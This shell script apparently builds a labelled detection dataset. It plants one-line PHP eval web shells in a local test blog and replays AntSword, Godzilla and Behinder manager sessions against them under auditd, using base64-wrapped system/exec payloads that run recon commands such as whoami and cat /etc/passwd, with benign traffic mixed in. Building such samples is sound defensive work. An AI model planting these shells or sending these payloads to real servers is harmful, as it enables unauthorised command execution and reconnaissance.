#!/bin/sh
# SPDX-License-Identifier: ISC
# Capture samples/manager-sessions: three web-shell managers' sessions,
# at once, among about 20 benign requests a second, with a real auditd.
#
#   sh tools/capture/manager-sessions.sh [OUTDIR]   (as root; default samples/manager-sessions)
#
# Each manager is driven the way its client drives the shell it planted:
# the PHP it POSTs is what the manager's own template sends (its
# wrapper, exactly), the command being what its operator typed.
# - 127.0.0.66, AntSword on uploads/cache.php: connection info, a file
#   listing and a file read (nothing runs), then a terminal whose
#   commands are wrapped as cd "DIR";CMD;echo TAG;pwd;echo TAG2 with
#   random hex tags fixed for the terminal, run as /bin/sh -c "..." 2>&1
#   by PHP's system(): three shell levels; a fresh browser User-Agent
#   for each request.
# - 127.0.0.88, Godzilla on assets/img/g.php: a burst of three requests
#   at connection that run nothing, then sh -c "cd "DIR";CMD" 2>&1
#   through exec().
# - 127.0.0.77, Behinder on wp-content/plugins/hello/x.php: cd DIR ;CMD
#   (a space before the semicolon), arp -a right after connecting, a
#   User-Agent from a small pool.
# Benign clients 127.0.0.10 to .25 read posts, search and comment
# (GETs and POSTs to dynamic pages).
#
# truth.tsv: each operator command (time the request was sent, client,
# method, path, the command as typed, unwrapped); noexec.tsv: the same
# columns for the managers' requests that ran nothing, the last column
# saying what they did.
#
# Needs: auditd, nginx, php8.2-fpm, curl.  Removes only the audit rules
# it added; refuses to run when auditd is already running.
set -eu

OUT=$(realpath -m "${1:-$(dirname "$0")/../../samples/manager-sessions}")
NODE=blog03
FORMAT=ENRICHED
WEB=/srv/www/blog
PORT=8102
BASE="http://127.0.0.1:$PORT"
ANT=/uploads/cache.php
GODZ=/assets/img/g.php
BEH=/wp-content/plugins/hello/x.php
. "$(dirname "$0")/lib.sh"
NOEXEC="$T/noexec.tsv"

cap_start
: > "$NOEXEC"
mkdir -p "$WEB/uploads" "$WEB/assets/img" "$WEB/wp-content/plugins/hello"

# --- the web application -------------------------------------------------
cat > "$WEB/index.php" <<'PHP'
<?php echo "<h1>Blog</h1>\n"; for ($i = 1; $i < 7; $i++) echo "<a href=/post.php?id=$i>post $i</a>\n";
PHP
cat > "$WEB/post.php" <<'PHP'
<?php $id = (int)($_GET['id'] ?? 1); echo "<article>Post $id</article>\n";
PHP
cat > "$WEB/comment.php" <<'PHP'
<?php echo "Thanks, " . htmlspecialchars(substr($_POST['name'] ?? '', 0, 20)) . "\n";
PHP
cat > "$WEB/search.php" <<'PHP'
<?php echo "Results for " . htmlspecialchars($_POST['q'] ?? '') . "\n";
PHP
for f in "$ANT" "$GODZ" "$BEH"; do
	echo '<?php @eval($_POST["pass"]);' > "$WEB$f"
done
chown -R www-data:www-data "$WEB"

# --- php-fpm and nginx -----------------------------------------------------
cap_fpm 8 America/Sao_Paulo
cap_nginx_php America/Sao_Paulo

# --- benign traffic --------------------------------------------------------
blog() {	# I: client loop body
	c=127.0.0.$((10 + ($1 * 5 + LOOP) % 16))
	ua=$(browser_ua "$(($1 + LOOP))")
	case $(($1 % 5)) in
	0) curl -s -o /dev/null --interface "$c" -A "$ua" "$BASE/" ;;
	1|2) curl -s -o /dev/null --interface "$c" -A "$ua" "$BASE/post.php?id=$(($1 % 7))" ;;
	3) curl -s -o /dev/null --interface "$c" -A "$ua" \
	    --data "name=reader$1&text=nice+post" "$BASE/comment.php" ;;
	*) curl -s -o /dev/null --interface "$c" -A "$ua" \
	    --data "q=linux+$1" "$BASE/search.php" ;;
	esac
}
for l in 0 1 2 3; do
	LOOP=$l
	cap_loop 300 blog
done

# --- the managers ------------------------------------------------------------
N=0
post() {	# CLIENT UA PATH PHP
	curl -s -o /dev/null --interface "$1" -A "$2" \
	    --data-urlencode "pass=$4" "$BASE$3" || true
}
b64() { printf '%s' "$1" | base64 -w0; }
noexec() {	# CLIENT PATH WHAT
	printf '%s\t%s\tPOST\t%s\t%s\n' "$(now)" "$1" "$2" "$3" >> "$NOEXEC"
}
hex() {		# N random hex digits
	od -An -N8 -tx1 /dev/urandom | tr -d ' \n' | cut -c1-"$1"
}

ant() {		# PHP: a fresh User-Agent each time
	N=$((N + 1))
	post 127.0.0.66 "$(browser_ua $N)" "$ANT" "$1"
}
ant_noexec() {	# WHAT PHP
	noexec 127.0.0.66 "$ANT" "$1"
	ant "$2"
}
ant_cmd() {	# DIR COMMAND: AntSword's terminal template
	truth 127.0.0.66 POST "$ANT" "$2"
	s=$(b64 "cd \"$1\";$2;echo $TAG1;pwd;echo $TAG2")
	ant "\$p='/bin/sh';\$s=base64_decode('$s');\$c=\"-c \\\"{\$s}\\\"\";\$r=\"{\$p} {\$c}\";@system(\$r.\" 2>&1\");"
	sleep 1
}
antsword() {
	ant_noexec info "echo phpversion(),'|',php_uname(),'|',getcwd();"
	sleep 0.5
	ant_noexec listing "echo json_encode(scandir('$WEB'));"
	sleep 0.5
	ant_noexec read "echo file_get_contents('$WEB/index.php');"
	sleep 1
	TAG1=$(hex 6) TAG2=$(hex 9)
	ant_cmd "$WEB/uploads" "whoami"
	ant_cmd "$WEB/uploads" "cat /etc/os-release"
	ant_cmd "$WEB/uploads" "ls -la $WEB"
	ant_cmd "$WEB/uploads" "id; uname -a"
	ant_cmd "$WEB/uploads" "find $WEB -name '*.php' -mmin -60"
	ant_noexec listing "echo json_encode(scandir('/tmp'));"
	sleep 0.5
	ant_cmd /tmp "ls -la"
	ant_cmd /tmp "ps aux | grep -c php"
	ant_cmd /tmp "cat /etc/passwd | head -3"
}

GUA="Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:84.0) Gecko/20100101 Firefox/84.0"
godzilla() {
	for w in init test info; do	# its burst at connection
		noexec 127.0.0.88 "$GODZ" "$w"
		post 127.0.0.88 "$GUA" "$GODZ" "echo md5('$w');"
	done
	sleep 1.5
	for cmd in "id" "uname -r" "ls -la $WEB/uploads"; do
		truth 127.0.0.88 POST "$GODZ" "$cmd"
		s=$(b64 "sh -c \"cd \"$WEB/assets/img/\";$cmd\" 2>&1")
		post 127.0.0.88 "$GUA" "$GODZ" "@exec(base64_decode('$s'),\$o);echo implode(\"\\n\",\$o);"
		sleep 1.3
	done
}

behinder_ua() {
	case $(($1 % 3)) in
	0) echo "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.110 Safari/537.36" ;;
	1) echo "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:48.0) Gecko/20100101 Firefox/48.0" ;;
	*) echo "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/14.1.2 Safari/605.1.15" ;;
	esac
}
behinder() {
	dir=$WEB/wp-content/plugins/hello
	noexec 127.0.0.77 "$BEH" "basic info"
	post 127.0.0.77 "$(behinder_ua 0)" "$BEH" "echo json_encode(['os'=>PHP_OS,'cwd'=>getcwd()]);"
	sleep 0.7
	i=1
	for cmd in "arp -a" "whoami" "cat /etc/hostname" "ls -la $dir"; do
		truth 127.0.0.77 POST "$BEH" "$cmd"
		s=$(b64 "cd $dir ;$cmd")
		post 127.0.0.77 "$(behinder_ua $i)" "$BEH" "echo shell_exec(base64_decode('$s'));"
		i=$((i + 1))
		sleep 1.6
	done
}

sleep 2
( sleep 3; godzilla ) &
TRAFFIC="$TRAFFIC $!"
( sleep 6; behinder ) &
TRAFFIC="$TRAFFIC $!"
antsword

# --- collect ----------------------------------------------------------------
cap_collect
sort -n "$OUT/truth.tsv" -o "$OUT/truth.tsv"
sort -n "$NOEXEC" > "$OUT/noexec.tsv"
cap_collect_nginx_php
cap_done
